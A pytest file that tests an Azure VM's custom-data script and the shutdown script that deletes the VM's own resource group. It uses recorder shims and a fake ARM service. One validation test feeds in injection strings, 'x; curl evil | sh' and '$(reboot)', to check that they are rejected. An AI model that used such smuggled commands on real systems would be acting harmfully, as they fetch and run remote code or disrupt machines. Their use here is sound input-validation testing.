"""The custom data and the end-of-machine script: shellcheck-clean, no secret, and run for real.

The custom data runs with bash into a temporary root, with recorders on PATH for the commands
that would change this machine (systemctl, systemd-run, shutdown). The end-of-machine script
runs with real curl against the ARM fake, which plays the instance metadata service too, and
must delete the VM's own resource group when, and only when, the machine is powering off.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from cmlinfra.clouds.azure import userdata
from cmlinfra.errors import UsageError
from tests.fixtures.azure import Arm

EXPIRES = "2026-11-27T12:00:00Z"


def shellcheck(script: str) -> None:
    result = subprocess.run(
        ["shellcheck", "-s", "bash", "-"], input=script, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout


def test_both_scripts_are_shellcheck_clean() -> None:
    for port in (22, 2222):
        script = userdata.render("cml-abc", 3600, EXPIRES, ssh_port=port)
        assert script.startswith("#!/bin/bash\n")
        shellcheck(script)
    shellcheck(userdata.end_script())


def recorders(tmp_path: Path, systemctl: str = "") -> tuple[dict[str, str], Path]:
    """PATH with recorders: every call is logged; ``systemctl`` prints what it is given."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp_path / "calls.log"
    curl = shutil.which("curl")
    assert curl
    shims = {
        "systemd-run": "",
        "shutdown": "",
        "systemctl": systemctl,
        # curl for real, but its arguments are recorded: the token must never be among them
        "curl": f'exec {curl} "$@"',
    }
    for name, body in shims.items():
        shim = bin_dir / name
        shim.write_text(f'#!/bin/bash\necho "{name} $*" >>"{log}"\n{body}\n')
        shim.chmod(0o755)
    return {"PATH": f"{bin_dir}:{os.environ['PATH']}", "HOME": str(tmp_path)}, log


def test_custom_data_arms_the_end_unit_and_the_max_ttl(tmp_path: Path) -> None:
    root = tmp_path / "root"
    script = userdata.render("cml-abc", 5400, EXPIRES, root=str(root))
    env, log = recorders(tmp_path)
    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    calls = log.read_text()
    assert "systemctl enable --now cmlinfra-azure-end.service" in calls
    assert "--on-active=5400s /bin/systemctl poweroff" in calls
    assert "--force" not in calls  # a forced power-off skips ExecStop: the VM would keep billing
    assert "shutdown -P +90 " in calls
    unit = (root / "etc/systemd/system/cmlinfra-azure-end.service").read_text()
    assert "ExecStop=/usr/local/lib/cmlinfra/azure-end-machine" in unit
    installed = root / "usr/local/lib/cmlinfra/azure-end-machine"
    assert installed.read_text() == userdata.end_script()
    assert os.access(installed, os.X_OK)


def test_only_validated_values_go_in() -> None:
    with pytest.raises(UsageError):
        userdata.render("x; curl evil | sh", 3600, EXPIRES)
    with pytest.raises(ValueError):
        userdata.render("cml-abc", 3600, "$(reboot)")
    assert userdata.max_ttl(601) == 660


def run_end(arm: Arm, tmp_path: Path, systemctl: str) -> tuple[subprocess.CompletedProcess, str]:
    script = tmp_path / "azure-end-machine"
    script.write_text(userdata.end_script(imds=arm.url, arm=arm.url))
    env, log = recorders(tmp_path, systemctl)
    env["CURL_CA_BUNDLE"] = str(arm.cert)
    result = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return result, log.read_text() if log.exists() else ""


POWERING_OFF = """case "$1" in
  is-system-running) echo stopping ;;
  list-jobs) echo "1234 poweroff.target start waiting" ;;
esac"""


def test_powering_off_deletes_the_group_with_the_vms_identity(arm: Arm, tmp_path: Path) -> None:
    arm.state.add_vm("cml-az", "cml-az", tags={"cmlinfra:stack": "cml-az"})
    arm.server.imds_vm = ("cml-az", "cml-az")
    result, calls = run_end(arm, tmp_path, POWERING_OFF)
    assert "Azure is deleting resource group cml-az" in result.stderr
    assert arm.called() == ["ResourceGroups_Delete"]  # validated against the specification
    assert arm.state.groups["cml-az"]["properties"]["provisioningState"] == "Deleting"
    arm.state.settle()  # ARM finishes the deletion; nobody polls from a machine powering off
    assert arm.state.groups == {} and arm.state.resources == {}
    assert arm.state.token not in calls, "the token must not appear in a command line"
    assert "forceDeletionTypes=Microsoft.Compute%2FvirtualMachines" in calls


@pytest.mark.parametrize(
    "systemctl",
    [
        'case "$1" in is-system-running) echo running ;; esac',
        'case "$1" in is-system-running) echo stopping ;;'
        ' list-jobs) echo "9 reboot.target start waiting" ;; esac',
    ],
    ids=["stopping-the-unit-by-hand", "reboot"],
)
def test_anything_but_a_power_off_keeps_the_machine(
    arm: Arm, tmp_path: Path, systemctl: str
) -> None:
    arm.state.add_vm("cml-az", "cml-az")
    arm.server.imds_vm = ("cml-az", "cml-az")
    result, _ = run_end(arm, tmp_path, systemctl)
    assert arm.state.requests == [] and "cml-az" in arm.state.groups
    assert "nothing to do" in result.stderr or "the machine stays" in result.stderr


def test_without_an_identity_gc_is_left_to_sweep(arm: Arm, tmp_path: Path) -> None:
    arm.state.add_vm("cml-az", "cml-az")
    arm.server.imds_vm, arm.server.imds_identity = ("cml-az", "cml-az"), False
    result, _ = run_end(arm, tmp_path, POWERING_OFF)
    assert "no managed identity token: cmlinfra gc must delete cml-az" in result.stderr
    assert arm.state.requests == []


def test_a_refused_delete_is_logged_and_the_power_off_goes_on(arm: Arm, tmp_path: Path) -> None:
    arm.state.add_vm("cml-az", "cml-az")
    arm.server.imds_vm = ("cml-az", "cml-az")
    arm.state.deny_writes = True  # the role assignment is missing or not yet effective
    result, _ = run_end(arm, tmp_path, POWERING_OFF)
    assert "deleting resource group cml-az failed: cmlinfra gc sweeps it" in result.stderr
    assert "cml-az" in arm.state.groups
